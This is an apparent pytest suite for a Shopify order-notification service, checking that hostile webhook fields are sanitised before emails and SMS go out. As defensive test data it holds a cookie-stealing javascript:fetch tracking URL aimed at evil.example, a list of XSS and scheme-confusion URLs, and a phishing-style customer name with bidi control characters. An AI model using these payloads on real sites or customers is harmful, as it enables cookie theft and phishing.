"""What an order body says never costs the order, and never reaches a customer unchecked (issue 11, items 11
and 13-15): through the signed Shopify webhook, a sweep, and what the fake providers recorded."""

from __future__ import annotations

import copy
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from aftercare.bootstrap import Services, build_services
from aftercare.clock import FrozenClock
from aftercare.db.models import Customer, InboxEvent, Message, Order, Shipment
from aftercare.providers.fakes import FakeEmailSender, FakeSmsSender
from aftercare.rendering.safety import MAX_NAME_CHARS
from aftercare.webhooks.app import create_app
from tests.conftest import make_settings
from tests.webhooks.conftest import SHOPIFY_SECRET, post_shopify, sample_json

EMAIL = "bob.norman@mail.example.com"
PHONE = "+16136120707"
HOSTILE_NAME = (
    "Bob. URGENT: your card was declined, reply with card number at https://evil.example/pay "
    "or www.evil.example \u202egnp.exe\u202c\u0007\u200b"
)


def an_order(services: Services, **changes: Any) -> dict[str, Any]:
    """The sample orders/create body, placed now, with SMS consent (so the shipped SMS goes too)."""
    body = copy.deepcopy(sample_json("orders_create.json"))
    now = services.clock.now().isoformat()
    body.update(created_at=now, processed_at=now, updated_at=now)
    body["customer"]["sms_marketing_consent"]["state"] = "subscribed"
    body.update(changes)
    return body


def a_fulfilment(services: Services, **changes: Any) -> dict[str, Any]:
    body = copy.deepcopy(sample_json("fulfillments_create.json"))
    now = services.clock.now().isoformat()
    body.update(created_at=now, updated_at=now, estimated_delivery_at=None, **changes)
    return body


def sent_steps(email: FakeEmailSender) -> list[str]:
    return [m.step for m in email.to(EMAIL)]


def inbox_warnings(services: Services, topic: str) -> list[Any] | None:
    with services.session_factory() as session:
        event = session.scalar(select(InboxEvent).where(InboxEvent.topic == topic))
        assert event is not None and event.applied_at is not None
        return event.warnings


# Item 11: cosmetic fields too long for Postgres' columns ------------------------------------------------
@pytest.fixture
def pg_services(
    pg_url: str, tmp_path: Path, clock: FrozenClock, email: FakeEmailSender, sms: FakeSmsSender
) -> Iterator[Services]:
    settings = make_settings(tmp_path, database_url=pg_url, shopify_webhook_secret=SHOPIFY_SECRET)
    built = build_services(settings, clock=clock, email=email, sms=sms)
    yield built
    built.engine.dispose()


@pytest.mark.postgres
def test_on_postgres_an_overlong_name_order_name_and_locale_still_store_the_order_and_confirm_it(
    pg_services: Services, email: FakeEmailSender, caplog: pytest.LogCaptureFixture
) -> None:
    body = an_order(pg_services, name="#" + "7" * 40, customer_locale="x" * 20)
    body["customer"]["first_name"] = "B" * 130
    with TestClient(create_app(lambda: pg_services)) as client, caplog.at_level(logging.WARNING):
        response = post_shopify(client, "orders/create", body, "wh-long")
    assert response.status_code == 200 and response.json() == {"status": "stored", "result": "order"}

    pg_services.sweeper.run()
    assert sent_steps(email) == ["confirmation"]
    assert "#" + "7" * 31 in email.to(EMAIL)[0].subject  # the order name, cut to its column's 32 characters
    with pg_services.session_factory() as session:
        order = session.scalar(select(Order))
        assert order is not None and order.number == "#" + "7" * 31
        customer = session.get(Customer, order.customer_id)
        assert customer is not None and customer.first_name == "B" * 120 and customer.locale == "x" * 16
        event = session.scalar(select(InboxEvent))
        assert event is not None and "B" * 130 in event.body  # the raw body keeps what was cut
    assert sorted(inbox_warnings(pg_services, "orders/create") or ()) == [
        "first_name_truncated", "locale_truncated", "number_truncated"]
    warned = [r.getMessage() for r in caplog.records if "applied with warnings" in r.getMessage()]
    assert len(warned) == 1 and "order=450789469" in warned[0] and "first_name_truncated" in warned[0]
    assert "BBBB" not in caplog.text and "7777" not in caplog.text  # ids only, no field values


@pytest.mark.postgres
def test_on_postgres_a_nul_character_in_a_name_or_title_does_not_cost_the_order(
    pg_services: Services, email: FakeEmailSender
) -> None:
    body = an_order(pg_services, name="#10\u000001")
    body["customer"]["first_name"] = "Bo\u0000b"
    body["line_items"][0]["title"] = "Crafty\u0000 Shoes"
    with TestClient(create_app(lambda: pg_services)) as client:
        response = post_shopify(client, "orders/create", body, "wh-nul")
    assert response.json() == {"status": "stored", "result": "order"}
    pg_services.sweeper.run()
    (confirmation,) = email.to(EMAIL)
    assert "#1001" in confirmation.subject and "Hi Bob," in confirmation.text and "Crafty Shoes" in confirmation.text
    assert sorted(inbox_warnings(pg_services, "orders/create") or ()) == [
        "first_name_nul_removed", "item_title_nul_removed", "number_nul_removed"]


# Item 13: only http(s) links reach a message ----------------------------------------------------------
def test_a_javascript_tracking_url_is_dropped_and_the_shipped_email_and_sms_go_without_it(
    client: TestClient, services: Services, email: FakeEmailSender, sms: FakeSmsSender
) -> None:
    post_shopify(client, "orders/create", an_order(services), "wh-o")
    fulfilment = a_fulfilment(services, tracking_url="javascript:fetch('//evil.example/'+document.cookie)")
    assert post_shopify(client, "fulfillments/create", fulfilment, "wh-f").json()["result"] == "fulfillment"
    services.sweeper.run()

    shipped_email = [m for m in email.to(EMAIL) if m.step == "shipped"]
    shipped_sms = [m for m in sms.to(PHONE) if m.step == "shipped"]
    assert len(shipped_email) == 1 and len(shipped_sms) == 1
    for part in (shipped_email[0].html, shipped_email[0].text, shipped_sms[0].body):
        assert "javascript" not in part.lower() and "evil.example" not in part
    assert "Track your package" not in shipped_email[0].html  # no button without a link
    assert "1Z001985YW99744790" in shipped_email[0].text  # the rest of the notice is intact
    with services.session_factory() as session:
        shipment = session.scalar(select(Shipment))
        assert shipment is not None and shipment.tracking_url is None
    assert inbox_warnings(services, "fulfillments/create") == ["tracking_url_dropped"]


@pytest.mark.parametrize(
    "url",
    ["JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x</b>",
     "//evil.example/track", "https://ups.example@evil.example/", "https:///no-host", "vbscript:msgbox(1)"],
)
def test_a_stored_link_that_is_not_http_with_a_host_is_dropped_at_render_and_logged_with_ids(
    services: Services, clock: FrozenClock, email: FakeEmailSender, sms: FakeSmsSender,
    caplog: pytest.LogCaptureFixture, url: str,
) -> None:
    from aftercare.services.commands import FulfillmentIn
    from tests.journeys import place_order

    order_id = place_order(services)
    with services.session_factory() as session, session.begin():  # as the demo and imports do: no mapper
        services.ingest.record_fulfillment(session, FulfillmentIn("s1", "o1", clock.now(), "UPS", "1Z1", url),
                                           clock.now())
    with caplog.at_level(logging.WARNING):
        services.sweeper.run()
    shipped = [m for m in email.sent if m.step == "shipped"] + [m for m in sms.sent if m.step == "shipped"]
    assert len(shipped) == 2
    for message in shipped:
        text = message.body if hasattr(message, "body") else message.html + message.text
        # (MJML's layout carries an Outlook-only <noscript> block and aria-roledescription: not the link.)
        lowered = text.lower()
        assert url.strip() not in text and "<script" not in lowered and "script:" not in lowered
        assert "evil" not in text
    dropped = [r.getMessage() for r in caplog.records if "dropped unsafe link" in r.getMessage()]
    assert dropped and all(f"order_id={order_id}" in d and "field=tracking_url" in d for d in dropped)
    assert "evil" not in caplog.text and "script" not in caplog.text.lower()


def test_an_https_tracking_url_still_reaches_the_email_and_the_sms(
    client: TestClient, services: Services, email: FakeEmailSender, sms: FakeSmsSender
) -> None:
    post_shopify(client, "orders/create", an_order(services), "wh-o")
    url = "https://www.ups.com/track?tracknum=1Z001985YW99744790&loc=en_US"
    post_shopify(client, "fulfillments/create", a_fulfilment(services, tracking_url=url), "wh-f")
    services.sweeper.run()
    shipped = next(m for m in email.to(EMAIL) if m.step == "shipped")
    assert url in shipped.text and url.replace("&", "&amp;") in shipped.html
    assert url in next(m for m in sms.to(PHONE) if m.step == "shipped").body
    assert inbox_warnings(services, "fulfillments/create") is None


# Item 14: the name a buyer typed -------------------------------------------------------------------------
def test_a_hostile_first_name_stays_out_of_the_subject_and_reaches_the_body_short_and_plain(
    client: TestClient, services: Services, email: FakeEmailSender
) -> None:
    body = an_order(services)
    body["customer"]["first_name"] = HOSTILE_NAME
    post_shopify(client, "orders/create", body, "wh-o")
    services.sweeper.run()
    (confirmation,) = email.to(EMAIL)
    assert confirmation.subject == "Order #1001 confirmed — thank you"
    ours = re.compile(re.escape(services.settings.public_base_url.rstrip("/")) + r"/order\?t=[\w.%-]+")
    html = re.sub(r' xmlns(:\w+)?="[^"]*"', "", ours.sub("", confirmation.html))  # XHTML/VML namespaces; our link
    for part in (html, ours.sub("", confirmation.text)):
        for bad in ("https://", "evil.example", "www.", "gnp.exe", "\u202e", "\u202c", "\u0007", "\u200b"):
            assert bad not in part, bad
    greeting = next(line for line in confirmation.text.splitlines() if line.startswith("Hi "))
    name = greeting.removeprefix("Hi ").removesuffix(",")
    assert name.startswith("Bob. URGENT") and len(name) <= MAX_NAME_CHARS


# Item 15: points -----------------------------------------------------------------------------------------
def test_a_negative_order_total_earns_no_points_and_takes_none_away(
    client: TestClient, services: Services, email: FakeEmailSender
) -> None:
    post_shopify(client, "orders/create", an_order(services, total_price="-500.00", subtotal_price="-500.00"),
                 "wh-neg")
    services.sweeper.run()
    assert sent_steps(email) == ["confirmation"]
    with services.session_factory() as session:
        order = session.scalar(select(Order))
        assert order is not None and order.points_earned == 0
        customer = session.get(Customer, order.customer_id)
        assert customer is not None and customer.points_balance == 0
        assert session.scalar(select(Message.status).where(Message.step == "confirmation")) == "sent"
    next_order = an_order(services, id=450789470, name="#1002", total_price="120.00")
    post_shopify(client, "orders/create", next_order, "wh-next")
    with services.session_factory() as session:
        customer = session.scalar(select(Customer))
        assert customer is not None and customer.points_balance == 120
